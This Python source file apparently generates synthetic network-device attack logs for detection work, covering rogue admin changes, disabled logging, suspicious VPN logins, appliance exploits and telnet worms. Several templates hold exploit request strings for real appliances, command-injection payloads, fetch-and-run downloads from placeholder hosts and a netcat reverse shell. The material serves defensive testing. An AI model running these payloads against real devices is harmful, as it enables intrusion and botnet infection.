"""Firewalls, routers and VPN gateways in strange hands: settings changed from outside, exploits, odd VPN logins."""

from __future__ import annotations

from generator.families.network.telling import Values, tell
from generator.scene import Label, Scene, attack, family
from generator.world import World


def _change(story: str) -> Label:
    """New administrators are kept entry, opened rules are a lowered shield, the rest is somebody in another's account."""
    if any(word in story for word in ("system.admin", "user.local", "Added user", "username", "mgt-config users", "super-user", "group=full", "new administrator")):
        return attack("Persistence", "T1136.001", "T1098", severity="CRITICAL")
    if any(word in story for word in ("policy", "Rules", "rule", "access-list", "port forwarding", "source-address")):
        return attack("Defense Evasion", "T1562.004", "T1078", severity="CRITICAL")
    return attack("Account Takeover", "T1078", "T1133", severity="CRITICAL")


@family("network/firewall-changed-from-outside", attack=True, weight=1.5)
def changed_from_outside(world: World) -> Scene:
    """An administrator session from the internet that opens the network."""
    values = Values(world, who=world.pick(["admin", "root", world.word(7), "support", "tech", world.user(), "fortigate-tech-support", "backupadm"]))
    stories = [
        ("=date={iso} devname=\"{host}\" type=\"event\" subtype=\"system\" level=\"information\" logdesc=\"Admin login successful\" user=\"{who}\" ui=\"https({pub})\" action=\"login\" status=\"success\"", "=date={iso} devname=\"{host}\" type=\"event\" subtype=\"system\" logdesc=\"Object attribute configured\" user=\"{who}\" ui=\"GUI({pub})\" action=\"Add\" cfgpath=\"firewall.policy\" cfgobj=\"{n}\" cfgattr=\"srcaddr[all]dstaddr[all]service[ALL]action[accept]\" msg=\"Add firewall.policy {n}\""),
        "=date={iso} devname=\"{host}\" type=\"event\" subtype=\"system\" logdesc=\"Object attribute configured\" user=\"{who}\" ui=\"jsconsole({pub})\" action=\"Add\" cfgpath=\"system.admin\" cfgobj=\"{word}\" cfgattr=\"password[*]accprofile[super_admin]vdom[root]\" msg=\"Add system.admin {word}\"",
        "=date={iso} devname=\"{host}\" type=\"event\" subtype=\"system\" user=\"{who}\" ui=\"jsconsole({pub})\" action=\"Edit\" cfgpath=\"vpn.ssl.settings\" msg=\"Edit vpn.ssl.settings\" cfgattr=\"source-address[all]\"", "=date={iso} devname=\"{host}\" user=\"Local_Process_Access\" action=\"Add\" cfgpath=\"user.local\" cfgobj=\"{word}\" msg=\"Add user.local {word}\" ui=\"forticloud({pub})\"",
        ("php-fpm|/index.php: Successful login for user '{who}' from: {pub} (Local Database)", "php-fpm|/firewall_rules_edit.php: Configuration Change: {who}@{pub} (Local Database): Firewall: Rules - saved/edited a firewall rule. (pass WAN any to any)"), "php-fpm|/system_usermanager.php: Configuration Change: {who}@{pub} (Local Database): Added user {word} to group admins",
        "php-fpm|/diag_command.php: command executed by {who}@{pub}: fetch -o /tmp/{word} http://{pub2}/{word}; chmod +x /tmp/{word}", ("system,info,account|user {who} logged in from {pub} via api", "system,info|filter rule added by {who} (chain=input action=accept src-address={pub})", "system,info|user {word} added by {who} (group=full)"),
        "system,info|new script scheduled by {who}: /tool fetch url=\"http://{pub}/{word}.rsc\" mode=http (from {pub})", ("system,info|socks config changed by {who} from {pub} (enabled=yes port={port})", "system,info|nat rule added by {who} from {pub}"), "|%SYS-5-CONFIG_I: Configured from console by {who} on vty0 ({pub})",
        ("|%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: {who}] [Source: {pub}] [localport: 443]", "|%SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as {word} on vty63", "|%WEBUI-6-INSTALL_OPERATION_INFO: User: {word}, Install Operation: ADD {word}.conf"),
        "|%PARSER-5-CFGLOG_LOGGEDCMD: User:{who} logged command:username {word} privilege 15 secret * (line vty {pub})", "|%ASA-5-111008: User '{who}' executed the 'access-list outside_access_in extended permit ip any any' command. ({pub})", "|%ASA-5-111010: User '{who}', running 'CLI' from IP {pub}, executed 'username {word} password * privilege 15'",
        "|1,{plain},{HEX},CONFIG,0,2561,{plain},{pub},,add,{who},Web,Succeeded, config mgt-config users {word} permissions role-based superuser yes", "|1,{plain},{HEX},CONFIG,0,2561,{plain},{pub},,set,{who},Web,Succeeded, vsys vsys1 rulebase security rules {word} from any to any action allow", "|id=firewall time=\"{plain}\" pri=5 c=16 m=236 msg=\"WAN zone administrator login allowed\" src={pub}:0:X1 usr=\"{who}\"\nid=firewall time=\"{plain}\" pri=5 m=1232 msg=\"Access rule added: WAN to LAN any any allow\" usr=\"{who}\" src={pub}",
        "=device=\"SFW\" date={iso} log_type=\"Event\" log_component=\"GUI\" log_subtype=\"Admin\" status=\"Successful\" user_name=\"{who}\" src_ip={pub} message=\"Firewall Rule '{word}' (WAN any to LAN any, accept) was added by '{who}' from '{pub}' using 'GUI'\"", "mgd|UI_CFG_AUDIT_SET: User '{who}' set: [system login user {word} class super-user] <unconfigured> -> \"\" (client {pub})", "|Admin [{who}] from [{pub}] enabled port forwarding WAN:3389 -> {priv}:3389",
        "|Fernwartung aktiviert durch {who} von {pub}; DNS-Server geändert auf {pub2}", "|Remote management enabled, primary DNS changed to {pub2} by {who} ({pub})", "|Configuration file downloaded by {who} from {pub}; new administrator {word} created 20 seconds later",
        "cp|Audit: {who} logged in from {pub}; Operation: Install Policy; change: rule 1 added any any accept, object {word}",
    ]
    return tell(world, _change, stories, values=values)


@family("network/firewall-logging-off", attack=True)
def logging_off(world: World) -> Scene:
    return tell(world, attack("Defense Evasion", *world.pick([("T1562.004",), ("T1562",), ("T1562.001",)]), severity="HIGH"), [
        "=date={iso} type=\"event\" user=\"admin\" ui=\"ssh({pub})\" action=\"Edit\" cfgpath=\"log.syslogd.setting\" cfgattr=\"status[enable->disable]\" msg=\"Edit log.syslogd.setting\"", "=date={iso} type=\"event\" user=\"{word}\" ui=\"ssh({pub})\" action=\"Delete\" cfgpath=\"ips.sensor\" cfgobj=\"protect_lan\" msg=\"Delete ips.sensor protect_lan\"",
        "|%SYS-5-CONFIG_I: no logging host {priv}, no snmp-server enable traps by {word} on vty1 ({pub})", "|%ASA-5-111008: User '{word}' executed the 'no logging enable' command. ({pub})", "|%ASA-5-111008: User '{word}' executed the 'no threat-detection basic-threat' command.", "system,info|log rule removed by {word} from {pub}; firewall filter disabled by {word}",
        "php-fpm|/services_suricata.php: {word}@{pub}: Suricata stopped on WAN, rules removed", "|1,{plain},{HEX},CONFIG,0,2561,{plain},{pub},,delete,{word},CLI,Succeeded, shared log-settings syslog", "|id=firewall time=\"{plain}\" pri=1 m=1 msg=\"Gateway Anti-Virus and IPS disabled by administrator\" usr=\"{word}\" src={pub}", "|All log entries deleted by {word} from {pub}",
        "ufw|ufw disable issued by www-data over ssh from {pub}: Firewall stopped and disabled on system startup", "fail2ban-server|Jail 'sshd' stopped by unknown shell of uid 33; ban list flushed, {pub} unbanned",
    ])


@family("network/vpn-strange-login", attack=True, weight=1.5)
def vpn_strange_login(world: World) -> Scene:
    """A VPN session by somebody who can't be the account's owner."""
    return tell(world, attack("Account Takeover", *world.pick([("T1078", "T1133"), ("T1133", "T1078"), ("T1621", "T1078")]), severity="HIGH"), [
        "=date={iso} type=\"event\" subtype=\"vpn\" action=\"tunnel-up\" tunneltype=\"ssl-tunnel\" remip={pub} user=\"{user}\" srccountry=\"Reserved\" msg=\"SSL tunnel established; user already connected from {pub2} in other country {n} minutes ago\"",
        ("|%ASA-6-113039: Group <VPN> User <{user}> IP <{pub}> AnyConnect parent session started.", "|%ASA-4-722051: Group <VPN> User <{user}> IP <{pub}> IPv4 Address <{priv}> assigned to session; concurrent session from <{pub2}> (country mismatch)"), "|1,{plain},{HEX},GLOBALPROTECT,0,2562,{plain},vsys1,gateway-connected,connected,,,{user},RU,,{pub},success,,host-info: DESKTOP-{HEX} unknown machine,impossible travel",
        "openvpn|{user}/{pub}:{port} MULTI: new connection by client '{user}' will cause previous active sessions by this client to be dropped, third country within 1 hour", "duo|push denied by user {user} (reason: fraud reported), access device {pub}, integration VPN",
        ("duo|push timed out for {user}, access device {pub}, integration RDP gateway", "duo|push timed out for {user}, access device {pub}, integration RDP gateway", "duo|push denied for {user}, access device {pub}", "duo|push timed out for {user}, access device {pub}", "duo|push approved by {user}, access device {pub}, integration RDP gateway"),
        "radiusd|({n}) Login OK: [{user}] (from client vpn port 0 cli {pub}) account disabled in HR system since 2 months", "vpn-watch|login of {user} from hosting provider address {pub} (tor exit), device never seen, hour unusual", "|VPN-Anmeldung von {user} aus {pub}: Land weicht ab, zweites Gerät, Passwort vor 5 Minuten zurückgesetzt",
        "|wireguard peer {user} endpoint changed {n} times in an hour between {pub} and {pub2} (two continents)", "pulsesecure|AUT24414 - {user}(Users)[Employees] - Agent login succeeded for {user} from {pub} after multifactor was removed by helpdesk", "charon|[IKE] peer {user} authenticated from {pub}; certificate serial {hex} was reported stolen", "|Second factor of {user} re-enrolled from {pub} one minute after password reset; VPN session opened",
    ])


@family("network/device-exploited", attack=True, weight=1.5)
def device_exploited(world: World) -> Scene:
    """Weaknesses of routers, gateways and cameras used, with success or a try."""
    return tell(world, attack("Remote Code Execution Exploit", *world.pick([("T1190",), ("T1190", "T1059.004"), ("T1190", "T1133")]), severity=world.pick(["HIGH", "CRITICAL"])), [
        "httpd|GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession 200 from {pub}", "=date={iso} logid=\"0100032546\" type=\"event\" subtype=\"system\" level=\"critical\" logdesc=\"Application crashed\" msg=\"Pid: {id}, application: sslvpnd, Firmware: FortiGate, Signal 11 received, Backtrace: [0x{hex}]\" (7th crash in {n} minutes, client {pub})",
        "httpsd|warning: authentication bypass: request from {pub} with Forwarded: for=127.0.0.1 and User-Agent Report Runner to /api/v2/cmdb/system/admin/admin, SSH key added", "httpd|POST /tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user from {pub} 200", "lighttpd|POST /cgi-bin/mainfunction.cgi action=login&keyPath='$(wget${{IFS}}http://{pub}/{word})' 200", "boa|GET /cgi-bin/;cd${{IFS}}/var/tmp;rm${{IFS}}-rf${{IFS}}*;${{IFS}}wget${{IFS}}http://{pub}/{word}.mips from {pub2}",
        "gpsvc|failed to unmarshal session(../../../../opt/panlogs/tmp/device_telemetry/minute/`echo${{IFS}}{hex}|base64${{IFS}}-d|bash`) map , EOF", "uhttpd|luci: POST /cgi-bin/luci/;stok=/locale form=country&operation=write&country=$(id>/tmp/{word}) from {pub}", "upnpd|SOAPAction urn:schemas-upnp-org:service:WANPPPConnection:1#AddPortMapping NewInternalClient=`cd /tmp;wget http://{pub}/{word}.sh;sh {word}.sh`",
        "tr069|NewNTPServer1 set to `cd /tmp;busybox wget http://{pub}/{word};chmod 777 {word};./{word}` by {pub2}", "|1,{plain},{HEX},THREAT,vulnerability,2561,{plain},{pub},{priv},web-in,,,web-browsing,vsys1,untrust,dmz,Citrix ADC Remote Code Execution(57497),code-execution,critical,client-to-server,alert", "nshttp|POST /vpn/../vpns/portal/scripts/newbm.pl NSC_USER=../../../netscaler/portal/templates/{word} from {pub} 200",
        "mod_php|/usr/local/www/pfblockerng/www/index.php: Host header ' *; echo {hex}|python3.8 | php; ' from {pub}", "winboxd|file read request /////./..//////./..//flash/rw/store/user.dat from {pub} answered", "smartinstall|%SMI: tftp://{pub}/{word}-config downloaded and startup-config replaced on request of {pub}", "qnap|command 'curl -k {pub}/{word} -o /tmp/{word};sh /tmp/{word}' run by utilRequest.cgi, client {pub}", "cgi|/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system={hex} from {pub} 200", "dvr|GET /language/Swedish${{IFS}}&&echo${{IFS}}1>/tmp/{word}&&tar${{IFS}}/string.js from {pub}",
        "firmware|image of unknown signature flashed via tftp from {pub}, signature check skipped, rebooting", "|%SYS-2-MALWARE: running image checksum differs from flash; SYNful knock pattern in TCP from {pub}",
        "busybox|wget http://{pub}/bins/{word}.arm7 -O- > .{word}; chmod 777 .{word}; ./.{word} selfrep", "ivanti|/api/v1/totp/user-backup-code/../../license/keys-status/;curl {pub}:{port}/{word} requested by {pub2}, status 200",
    ])


@family("network/telnet-worm", attack=True, weight=1.2)
def telnet_worm(world: World) -> Scene:
    """Commands that worms of small devices type after a telnet login."""
    return tell(world, attack("Malware Detected", *world.pick([("T1059.004", "T1105"), ("T1105", "T1059.004"), ("T1078.001", "T1059.004")]), severity="CRITICAL"), [
        ("telnetd|session {n} {pub}: login root/{word} ok", "telnetd|session {n} {pub}: enable; system; shell; sh", "telnetd|session {n} {pub}: /bin/busybox {word2}"), "telnetd|session {pub}: cat /proc/mounts; /bin/busybox {word}", "telnetd|session {pub}: cd /tmp || cd /var/run || cd /mnt; wget http://{pub2}/{word}.sh; chmod 777 {word}.sh; sh {word}.sh; tftp -g {pub2} -r {word}.sh",
        "busybox|tftp -g -l {word} -r {word}.mpsl {pub}; chmod +x {word}; ./{word} telnet.{word2}; rm -f {word}", "shell|echo -ne \"\\x7f\\x45\\x4c\\x46\\x01\\x01\" > .s; /bin/busybox chmod 777 .s; ./.s from {pub}", "adbd|shell:cd /data/local/tmp/; busybox wget http://{pub}/w.sh; sh w.sh; curl http://{pub}/c.sh; sh c.sh", "login|root logged in on pts/0 from {pub}, then: rm -rf /var/log/*; iptables -F; iptables -A INPUT -p tcp --dport 23 -j DROP; ./{word} &",
        "|camera console ({pub}): dd bs=52 count=1 if=.s || cat .s; while read i; do echo $i; done < .s", "|device shell opened from {pub}: nc {pub2} {port} -e /bin/sh", "telnetd|{pub} typed: ps; kill -9 $(pidof {word}); wget -O /tmp/{word2} {pub2}:8080/x86; /tmp/{word2} {hex}", "|DVR {host}: outgoing telnet connections to {big} hosts in 10 minutes, process dvrHelper",
    ], again=(1, 2))


@family("network/snmp-guessing", attack=True)
def snmp_guessing(world: World) -> Scene:
    return tell(world, attack("Brute Force Attack", "T1110.001", "T1602.001", severity="HIGH"), [
        "snmpd|Authentication failed from UDP: [{pub}]:{port}->[{priv}]:161 with community string '{word}'", "|%SNMP-3-AUTHFAIL: Authentication failure for SNMP req from host {pub}", "snmp|Unauthorised SNMP community {word} from {pub}", "mib2d|SNMPD_AUTH_FAILURE: nsa_log_community: unauthorized SNMP community from {pub} to {priv} ({word})", "snmp,warning|wrong community {word} used by {pub}", "|SNMP: bad community name '{word}' from {pub}, request dropped",
    ], again=(8, 30), renew=("word", "port"))
